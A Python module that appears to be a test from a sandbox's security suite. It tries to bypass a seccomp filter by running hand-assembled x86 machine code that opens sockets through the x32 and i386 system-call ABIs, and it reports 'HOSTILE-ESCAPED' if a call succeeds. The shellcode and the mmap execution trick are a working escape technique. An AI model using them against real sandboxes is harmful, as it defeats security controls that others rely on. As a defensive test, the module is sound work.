"""Machine code that enters the kernel through a foreign ABI: x32 ``syscall``, ``int 0x80``.

Attack (own): a seccomp filter written for x86-64 numbers is bypassed if the same process can
make i386 (``int 0x80``) or x32 (``nr | 0x40000000``) system calls, whose numbers differ. The
strategy maps a page read-write-execute, writes machine code for ``socket(AF_INET)`` through
the x32 ABI, then through ``int 0x80`` (i386 socket is 359), and calls it with ctypes.
Stopped by: seccomp's bad-architecture action (KILL_PROCESS): the process dies with SIGSYS and
the user sees "crashed its process (killed by SIGSYS)".
"""

import ctypes
import mmap
import platform

PARAMETERS = {}

X32_SOCKET = bytes.fromhex(
    "b829000040"  # mov eax, 0x40000029  (x32 socket)
    "bf02000000"  # mov edi, AF_INET
    "be01000000"  # mov esi, SOCK_STREAM
    "31d2"  # xor edx, edx
    "0f05"  # syscall
    "c3"  # ret
)
I386_SOCKET = bytes.fromhex(
    "53"  # push rbx
    "b867010000"  # mov eax, 359 (i386 socket)
    "bb02000000"  # mov ebx, AF_INET
    "b901000000"  # mov ecx, SOCK_STREAM
    "31d2"  # xor edx, edx
    "cd80"  # int 0x80
    "5b"  # pop rbx
    "c3"  # ret
)


def _call(code):
    page = mmap.mmap(-1, mmap.PAGESIZE, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(code)
    addr = ctypes.addressof(ctypes.c_char.from_buffer(page))
    return ctypes.CFUNCTYPE(ctypes.c_long)(addr)()


def generate_positions(data, **params):
    if platform.machine() != "x86_64":
        raise RuntimeError("x86-64 machine code only")
    results = {"x32": _call(X32_SOCKET), "i386": _call(I386_SOCKET)}
    if any(r >= 0 for r in results.values()):
        raise RuntimeError("HOSTILE" + f"-ESCAPED foreign-ABI socket: {results}")
    raise RuntimeError(f"foreign ABIs answered errors without killing: {results}")
